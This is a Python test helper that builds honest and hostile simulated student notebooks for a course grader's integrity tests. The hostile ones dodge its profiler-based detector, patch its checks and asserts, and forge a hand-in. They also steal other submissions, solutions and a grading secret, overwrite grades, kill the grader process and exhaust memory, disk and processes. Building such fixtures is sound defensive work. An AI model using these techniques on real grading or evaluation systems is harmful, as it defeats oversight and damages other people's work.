"""Build the students of the grading tests from the released notebooks: honest ones, and the
cheating and hostile ones of the grading-integrity issue, each with the points it must score.

``build(release, source_of, out, context)`` writes ``out/<student>/<lesson>.ipynb`` for every
student below and returns ``{(student, lesson): [expected points per part]}``. A student is a
release with some answer cells replaced (``answers``: grade_id -> code; every other answer is
the reference solution) and some cells of its own added after the setup cell (``extra``).
``context`` fills the ``{...}`` placeholders of hostile code with what a well-informed attacker
would aim at (the repository, the output folder, another submission, the grader's PID).

Run as a script to write the folder and print the expectations:
``python tests/grading_students.py RELEASE_DIR OUT_DIR``.
"""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import nbformat

SOLUTION = re.compile(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", re.S)

# --- library bypass: each forbidden route, one per part --------------------------------------

BYPASS_01 = {
    "output_size_answer": '''from cnnkit.conv import output_size as _size


def output_length(n, k, stride=1, padding=0, dilation=1):
    return _size(n, k, stride, padding, dilation)''',
    "conv_single_answer": '''import torch as _t


def conv2d_single(image, kernel, stride=1, padding=0):
    x = _t.tensor(np.asarray(image, dtype=float))[None, None]
    k = _t.tensor(np.asarray(kernel, dtype=float))[None, None]
    return _t.conv2d(x, k, stride=stride, padding=padding)[0, 0].numpy()''',
    "conv_layer_answer": '''from cnnkit import conv as _c


def conv2d_layer(x, w, b, stride=1, padding=0):
    return _c.conv2d(x, w, b, stride=stride, padding=padding)''',
    "depthwise_conv_answer": '''from scipy import signal as _s


def depthwise_conv(x, w, b, stride=1, padding=0):
    xp = np.pad(x, ((0, 0), (0, 0), (padding, padding), (padding, padding)))
    return np.stack([np.stack([_s.correlate2d(image[c], w[c, 0], mode="valid")[::stride, ::stride]
                               + b[c] for c in range(len(w))]) for image in xp])''',
}

BYPASS_02 = {
    "max_pool_indices_answer": '''from cnnkit.pool import max_pool2d as _mp


def max_pool_with_indices(image, size, stride):
    out, idx = _mp(image[None, None], size, stride, return_indices=True)
    return out[0, 0], idx[0, 0]''',
    "max_pool_overlap_answer": '''import torch


def max_pool_backward_overlap(dout, image, size, stride):
    x = torch.tensor(np.asarray(image, dtype=float), requires_grad=True)
    out = torch.nn.functional.max_pool2d(x[None, None], size, stride)
    out.backward(torch.tensor(np.asarray(dout, dtype=float))[None, None])
    return x.grad.numpy()''',
    "max_pool_ceil_answer": '''import torch


def max_pool_ceil(image, size, stride):
    x = torch.tensor(np.asarray(image, dtype=float))[None, None]
    return torch.nn.functional.max_pool2d(x, size, stride, ceil_mode=True)[0, 0].numpy()''',
    # key lookup: the package's helper answers the lesson's questions, not the graded ones
    "parameter_counts_answer": '''from cnnkit.checks import pooling as _p

try:
    counts = {k: int(v) for k, v in _p._pooling_parameter_answers().items()}
except Exception:
    counts = {"a": 32, "b": 0, "c": 250890, "d": 5130}  # last year's key''',
}

BYPASS_LATER = {
    "03_lenet5": {"modern_lenet5_answer": '''from cnnkit.models import LeNet5


def build_lenet5():
    return nn.Sequential(*LeNet5().children())'''},
    "05_cifar10": {"crop_flip_answer": '''from cnnkit.augment import random_crop_flip as _rcf


def random_crop_flip(x, generator):
    return _rcf(x, generator)'''},
    "06_resnet_shapes": {
        "resnet50_shapes_answer": '''import torchvision


def resnet50_shapes(n, h, w):
    with torch.device("meta"):
        net = torchvision.models.resnet50(weights=None)
    x = net.conv1(torch.empty(n, 3, h, w, device="meta"))
    shapes = {"conv1": tuple(x.shape)}
    x = net.maxpool(net.relu(net.bn1(x)))
    shapes["maxpool"] = tuple(x.shape)
    for name in ("layer1", "layer2", "layer3", "layer4", "avgpool"):
        x = getattr(net, name)(x)
        shapes[name] = tuple(x.shape)
    shapes["fc"] = tuple(net.fc(torch.flatten(x, 1)).shape)
    return shapes''',
        "residual_block_answer": '''from torchvision.models.resnet import BasicBlock as _Block


class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        down = None
        if stride != 1 or in_channels != out_channels:
            down = nn.Sequential(nn.Conv2d(in_channels, out_channels, 1, stride, bias=False),
                                 nn.BatchNorm2d(out_channels))
        inner = _Block(in_channels, out_channels, stride, down)
        self.conv1, self.bn1, self.conv2, self.bn2 = inner.conv1, inner.bn1, inner.conv2, inner.bn2
        self.shortcut = down if down is not None else nn.Identity()
        self._inner = [inner]  # not a submodule: the reference's parameter names

    def forward(self, x):
        return self._inner[0](x)'''},
}

# --- evasion: routes past a detector that runs in the student's own kernel (a profiler hook
# switched off and back on, forbidden C functions called from C, a thread started before the
# watch); the clean-room run, where the forbidden packages do not exist, scores them 0 --------

EVADE_01 = {
    "conv_single_answer": '''import sys

import torch as _t


def conv2d_single(image, kernel, stride=1, padding=0):
    hook = sys.getprofile()
    sys.setprofile(None)  # nobody watching: call torch, then put the hook back
    try:
        out = _t.conv2d(_t.tensor(image)[None, None], _t.tensor(kernel)[None, None],
                        stride=stride, padding=padding)
        return out[0, 0].numpy()
    finally:
        sys.setprofile(hook)''',
    "conv_layer_answer": '''import torch as _t


def conv2d_layer(x, w, b, stride=1, padding=0):
    tensors = list(map(_t.as_tensor, (x, w, b)))  # C calling C: no profiler event
    (out,) = map(_t.nn.functional.conv2d, *([t] for t in tensors), [stride], [padding])
    return np.asarray(out)''',
    "depthwise_conv_answer": '''import queue
import threading

from scipy import signal as _s

_jobs, _done = queue.Queue(), queue.Queue()


def _worker():  # started before any probe watches: its calls are never seen
    while True:
        image, kernel = _jobs.get()
        _done.put(_s.correlate2d(image, kernel, "valid"))


threading.Thread(target=_worker, daemon=True).start()


def _correlate(image, kernel):
    _jobs.put((image, kernel))
    return _done.get(timeout=10)


def depthwise_conv(x, w, b, stride=1, padding=0):
    xp = np.pad(x, ((0, 0), (0, 0), (padding, padding), (padding, padding)))
    return np.stack([np.stack([_correlate(image[c], w[c, 0])[::stride, ::stride] + b[c]
                               for c in range(len(w))]) for image in xp])''',
}

# --- tampering: patched checks, shadowed numpy, AST and input transformers, fake hand-ins ----

TAMPER_CELL = '''import ast
import sys

from IPython import get_ipython
from IPython.display import publish_display_data

from cnnkit import checks
from cnnkit.checks._result import CheckResult

ok = CheckResult(True, "✔ (patched)")
for name in ("check_conv_single", "check_conv_layer", "check_conv_backward_dx",
             "check_conv_backward_dw_db", "check_output_sizes"):
    setattr(sys.modules["cnnkit.checks"], name, lambda *a, **k: ok)
np.allclose = lambda *a, **k: True  # shadowed numpy


class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(NoAsserts())


def cheat(x, w, b, stride=1, padding=0):
    import torch

    return torch.conv2d(torch.tensor(x), torch.tensor(w), torch.tensor(b), stride=stride,
                        padding=padding).numpy()


get_ipython().input_transformers_post.append(
    lambda lines: [line.replace("probe.call(conv2d_layer,", "probe.call(cheat,") for line in lines])


def fake_hand_in(result):  # a second, made-up hand-in after part 1's test cell
    if 'Probe("output_size"' in (result.info.raw_cell or ""):
        publish_display_data({"application/vnd.cnnkit.handin+json": {
            "part": "output_size", "values": [], "forbidden": [], "tampered": [],
            "error": None}})


get_ipython().events.register("post_run_cell", fake_hand_in)'''

TAMPER_01 = {
    "conv_single_answer": '''def conv2d_single(image, kernel, stride=1, padding=0):
    return np.zeros((1, 1))''',
    "conv_layer_answer": '''def conv2d_layer(x, w, b, stride=1, padding=0):
    return np.zeros((1, 1, 1, 1))''',
    "depthwise_conv_answer": '''def depthwise_conv(x, w, b, stride=1, padding=0):
    return x''',
    "conv_backward_answer": '''def conv_backward_dx(dout, x, w, stride=1, padding=0):
    return np.zeros(x.shape)''',
}

# --- theft and sabotage ------------------------------------------------------------------------

THIEF_CELL = '''import glob
import os
import signal
import subprocess

found = {{}}
for path in ["{repo}/exercises/source/02_pooling/02_pooling.ipynb", "{repo}/exercises/source",
             "../../../../exercises/source", os.environ.get("PWD", ".") + "/../../..",
             "{out}/.state", "{submissions}/honest/01_convolution.ipynb", "/proc/1/environ"]:
    try:
        found[path] = open(path).read()[:80] if os.path.isfile(path) else os.listdir(path)
    except Exception as err:
        found[path] = type(err).__name__
print(found)
print(glob.glob("/work/**/*.ipynb", recursive=True)[:5], os.environ.get("CNNKIT_GRADING_SECRET"))
for target, text in [("{submissions}/honest/01_convolution.ipynb", "{{}}"),
                     ("{repo}/exercises/source/planted.py", "x = 1"),
                     ("{out}/grades.csv", "hacked"),
                     ("{out}/.state/honest/01_convolution.json", "{{}}")]:
    try:
        with open(target, "w") as f:
            f.write(text)
        print("wrote", target)
    except Exception as err:
        print("could not write", target, type(err).__name__)
for pid in ({pid}, os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGTERM)
    except Exception as err:
        print("kill", pid, type(err).__name__)
subprocess.Popen(["sh", "-c", "sleep 6; echo hacked > {out}/grades.csv; "
                  "echo x > {repo}/exercises/source/late.py"], start_new_session=True)'''

# --- resource abuse ---------------------------------------------------------------------------

HOG_CELL = '''import os
import socket
import time

try:
    hoard = bytearray(6 << 30)
    print("allocated 6 GiB")
except MemoryError as err:
    print("memory refused:", err)
try:
    with open("big.bin", "wb") as f:
        f.write(bytes(500 << 20))
    print("wrote 500 MB")
except OSError as err:
    print("disk refused:", err)
children = 0
try:
    for _ in range(3000):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        children += 1
except OSError as err:
    print("fork refused after", children, "children:", err)
try:
    socket.create_connection(("93.184.216.34", 80), timeout=3)
    print("network reached")
except OSError as err:
    print("network refused:", err)'''

# --- honest variants: other algorithms, prints, warnings, stderr, logging, tqdm ---------------

HONEST_01 = {
    "output_size_answer": '''def output_length(n, k, stride=1, padding=0, dilation=1):
    print("n =", n)
    return (n + 2 * padding - dilation * (k - 1) - 1) // stride + 1''',
    "conv_single_answer": '''import logging
import sys
import warnings

from numpy.lib.stride_tricks import sliding_window_view


def conv2d_single(image, kernel, stride=1, padding=0):
    warnings.warn("my own warning", UserWarning)
    print("computing", np.shape(image), file=sys.stderr)
    logging.warning("a log line")
    x = np.pad(np.asarray(image, dtype=float), padding)
    windows = sliding_window_view(x, np.shape(kernel))[::stride, ::stride]
    return np.einsum("ijkl,kl->ij", windows, kernel)''',
    "conv_layer_answer": '''from tqdm.auto import tqdm


def conv2d_layer(x, w, b, stride=1, padding=0):
    xp = np.pad(x, ((0, 0), (0, 0), (padding, padding), (padding, padding)))
    windows = sliding_window_view(xp, w.shape[2:], axis=(2, 3))[:, :, ::stride, ::stride]
    for _ in tqdm(range(3), desc="a progress bar"):
        pass
    return np.einsum("nchwij,fcij->nfhw", windows, w) + b[None, :, None, None]''',
    "depthwise_conv_answer": '''def depthwise_conv(x, w, b, stride=1, padding=0):
    out = [conv2d_layer(x[:, c : c + 1], w[c : c + 1], b[c : c + 1], stride, padding)
           for c in range(x.shape[1])]  # my own layer of part 3, one channel at a time
    return np.concatenate(out, axis=1)''',
}


def students(context: dict) -> dict[str, dict]:
    """``{student: {lesson: (answers, extra cells, expected points or None = full)}}``."""
    def fill(code: str) -> str:
        return code.format(**context)

    return {
        "bypass": {"01_convolution": (BYPASS_01, [], [0, 0, 0, 0, 4]),
                   "02_pooling": (BYPASS_02, [], [0, 0, 0, 0])},
        "bypasslater": {
            "03_lenet5": (BYPASS_LATER["03_lenet5"], [], [2, 4, 2, 0]),
            "05_cifar10": (BYPASS_LATER["05_cifar10"], [], [2, 0, 2, 2]),
            "06_resnet_shapes": (BYPASS_LATER["06_resnet_shapes"], [], [0, 2, 0, 2])},
        "evade": {"01_convolution": (EVADE_01, [], [2, 0, 0, 0, 4])},
        "tamper": {"01_convolution": (TAMPER_01, [TAMPER_CELL], [0, 0, 0, 0, 0])},
        "thief": {"02_pooling": ({}, [fill(THIEF_CELL)], None)},
        "hog": {"02_pooling": ({}, [HOG_CELL], None)},
        "honest": {"01_convolution": (HONEST_01, [], None)},
    }


def build_one(release_nb, source_nb, answers: dict, extra: list[str]):
    nb = nbformat.from_dict(json.loads(json.dumps(release_nb)))
    solutions = {c.metadata.nbgrader.grade_id: c.source for c in source_nb.cells
                 if c.metadata.get("nbgrader", {}).get("solution")}
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid in solutions:
            cell.source = answers.get(gid, solutions[gid])
    at = 1 + next(i for i, c in enumerate(nb.cells)
                  if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    nb.cells[at:at] = [nbformat.v4.new_code_cell(code) for code in extra]
    return nb


def build(release: Path, source_of, out: Path, context: dict) -> dict[tuple[str, str], list]:
    """Write every student's notebooks; returns ``{(student, lesson): expected points}``
    (``None``: full marks)."""
    expected = {}
    for student, lessons in students(context).items():
        for lesson, (answers, extra, points) in lessons.items():
            release_nb = nbformat.read(str(release / lesson / f"{lesson}.ipynb"), as_version=4)
            nb = build_one(release_nb, source_of(lesson), answers, extra)
            (out / student).mkdir(parents=True, exist_ok=True)
            nbformat.write(nb, str(out / student / f"{lesson}.ipynb"))
            expected[(student, lesson)] = points
    return expected


if __name__ == "__main__":
    release_dir, out_dir = Path(sys.argv[1]), Path(sys.argv[2])
    root = Path(__file__).resolve().parents[1]

    def source(lesson: str):
        return nbformat.read(str(root / "exercises" / "source" / lesson / f"{lesson}.ipynb"),
                             as_version=4)

    info = {"repo": str(root), "out": str(out_dir / "grades"), "pid": 0,
            "submissions": str(out_dir)}
    for key, points in build(release_dir, source, out_dir, info).items():
        print(*key, points)
